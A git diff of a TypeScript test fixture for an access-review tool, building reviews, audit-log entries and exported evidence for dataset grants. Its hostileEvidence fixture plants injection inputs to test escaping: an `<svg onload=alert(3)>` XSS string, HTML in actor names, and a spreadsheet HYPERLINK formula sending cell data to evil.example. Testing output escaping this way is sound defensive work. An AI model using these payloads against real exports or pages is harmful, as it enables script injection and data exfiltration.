@@ -3,12 +3,14 @@
 // the access report the real merge (src/plan/access.ts) makes of them. Reviews, patches, evidence
 // and HTML are tested on it without a backend.
 import type { AccessReading, AccessReport, ActualAccess, AccessHolder } from '../../src/model/access.js';
-import type { Review, ReviewEvidence, ReviewVerdict } from '../../src/model/review.js';
+import type { AuditRecord, Review, ReviewDataset, ReviewEvidence, ReviewVerdict } from '../../src/model/review.js';
 import { accessReport } from '../../src/plan/access.js';
-import { isSelfReview, reviewEvidence } from '../../src/plan/review.js';
+import { isSelfDecision, reviewEvidence } from '../../src/plan/review.js';
 import { parseSpec } from '../../src/spec/load.js';
 import type { Spec } from '../../src/spec/schema.js';
-import { sha256 } from '../../src/core/canonical.js';
+import { hashJson, sha256 } from '../../src/core/canonical.js';
+import { applyStartDetail } from '../../src/model/audit.js';
+import { decisionDetail, startDetail } from '../../src/plan/review-audit.js';
 
 export const NOW = new Date('2026-12-01T00:00:00.000Z');
 
@@ -108,10 +110,20 @@ export function fixtureReport(
   });
 }
 
+/** The fixture spec's datasets, as a review records them. */
+export const DATASETS: Record<string, ReviewDataset> = {
+  artifacts: { backend: 'aws', bucket: 'ai-model-artifacts' },
+  features: { backend: 'wh', database: 'analytics', schema: 'features' },
+  'training-data': { backend: 'aws', bucket: 'ai-model-data', prefix: 'training/' },
+};
+
 export const EMAILS: Record<string, string> = { alice: 'alice@example.com', bob: 'bob@example.com', dana: 'dana@example.com' };
 
-/** A review of the fixture's report, with decisions given as [who, dataset, level, verdict, reviewer]. */
-export function fixtureReview(decisions: [string, string, string, ReviewVerdict, string][] = [], report = fixtureReport()): Review {
+/**
+ * A review of the fixture's report, with decisions given as [who, dataset, level, verdict,
+ * reviewer, actor]; without an actor, the reviewer recorded it themself.
+ */
+export function fixtureReview(decisions: [string, string, string, ReviewVerdict, string, string?][] = [], report = fixtureReport()): Review {
   let seq = 10;
   const rowOf = (who: string, dataset: string, level: string) => {
     const row = report.rows.find((r) => r.who === who && r.dataset === dataset && r.level === level);
@@ -129,24 +141,26 @@ export function fixtureReview(decisions: [string, string, string, ReviewVerdict,
       specSha256: report.specHash,
       auditHead: { seq: 9, hash: 'f'.repeat(64) },
       datagrantVersion: '0.1.0',
-      populationSha256: 'e'.repeat(64),
+      populationSha256: hashJson(report.rows),
       limits: report.limits,
       invariants: report.invariants,
       requests: report.requests,
+      datasets: DATASETS,
     },
     population: report.rows,
     emails: EMAILS,
     // Ordered as the store returns them: by row id, then reviewer.
     decisions: decisions
-      .map(([who, dataset, level, decision, reviewer]) => {
+      .map(([who, dataset, level, decision, reviewer, actor = reviewer]) => {
         const row = rowOf(who, dataset, level);
         return {
           rowId: row.id,
           decision,
           reason: `${decision}: quarterly review`,
           reviewer,
+          actor,
           decidedAt: NOW.toISOString(),
-          selfReview: isSelfReview(reviewer, row, EMAILS),
+          selfReview: isSelfDecision({ reviewer, actor }, row, EMAILS),
           auditSeq: ++seq,
         };
       })
@@ -154,6 +168,25 @@ export function fixtureReview(decisions: [string, string, string, ReviewVerdict,
     closedAt: null,
     closedBy: null,
   };
+}
+
+/** The audit entries a review's own writes made: its start (#10) and each standing decision (at its seq). */
+export function reviewEntries(review: Review): AuditRecord[] {
+  const address = `review/${review.name}`;
+  const hash = (seq: number) => String(seq).padStart(64, '0');
+  return [
+    { seq: 10, at: review.startedAt, actor: review.startedBy, event: 'review.start', address, outcome: 'ok', detail: startDetail(review), hash: hash(10) },
+    ...review.decisions.map((d) => ({
+      seq: d.auditSeq,
+      at: d.decidedAt,
+      actor: d.actor,
+      event: 'review.decide',
+      address,
+      outcome: d.decision,
+      detail: decisionDetail(d),
+      hash: hash(d.auditSeq),
+    })),
+  ].sort((a, b) => a.seq - b.seq);
 }
 
 /** A holder name as hostile as a PostgreSQL role name may be. */
@@ -175,36 +208,22 @@ export function hostileEvidence(): ReviewEvidence {
   const report = hostileReport();
   const review = fixtureReview(
     [
-      ['alice', 'training-data', 'read', 'revoke', 'carol'],
+      ['alice', 'training-data', 'read', 'revoke', 'carol', 'ci@cli'],
       ['alice', 'training-data', 'read', 'keep', 'alice@example.com'],
-      [HOSTILE, 'artifacts', 'read', 'revoke', `<svg onload=alert(3)>`],
+      [HOSTILE, 'artifacts', 'read', 'revoke', `<svg onload=alert(3)>`, `<i>x</i>@cli`],
       ['trainer', 'artifacts', 'write', 'keep', 'carol'],
     ],
     report,
   );
   review.decisions[0]!.reason = `=HYPERLINK("http://evil.example/?"&A1,"x") <b>no longer on the team</b>`;
   const fresh = fixtureReport({ readings: fixtureReadings({ hostile: HOSTILE, without: (a) => a.holder.name === 'alice' && a.backend === 'aws' }) });
+  // The revocations patch applied: a run of another spec than the one reviewed removes alice's membership.
+  const run = { at: '2026-12-03T10:00:00.000Z', actor: 'ci@cli', address: null, outcome: 'ok' };
   const entries = [
-    {
-      seq: 10,
-      at: '2026-12-01T00:00:00.000Z',
-      actor: 'carol@cli',
-      event: 'review.start',
-      address: 'review/2026-Q4',
-      outcome: 'ok',
-      detail: null,
-      hash: 'a'.repeat(64),
-    },
-    {
-      seq: 20,
-      at: '2026-12-03T10:00:00.000Z',
-      actor: 'ci@cli',
-      event: 'change.delete',
-      address: 'aws:membership/ml-researchers/alice',
-      outcome: 'ok',
-      detail: null,
-      hash: 'b'.repeat(64),
-    },
+    ...reviewEntries(review),
+    { ...run, seq: 19, event: 'apply.start', outcome: 'started', detail: applyStartDetail(1, 'run-1', 'c'.repeat(64)), hash: '9'.repeat(64) },
+    { ...run, seq: 20, event: 'change.delete', address: 'aws:membership/ml-researchers/alice', detail: null, hash: 'b'.repeat(64) },
+    { ...run, seq: 21, event: 'apply.end', detail: '1 applied, 0 failed, 0 skipped', hash: 'd'.repeat(64) },
   ];
-  return reviewEvidence({ review, fresh, entries, verdict: { ok: true, entries: 20 }, exportedBy: `auditor "<q>"@cli` });
+  return reviewEvidence({ review, fresh, entries, verdict: { ok: true, entries: 21 }, exportedBy: `auditor "<q>"@cli` });
 }
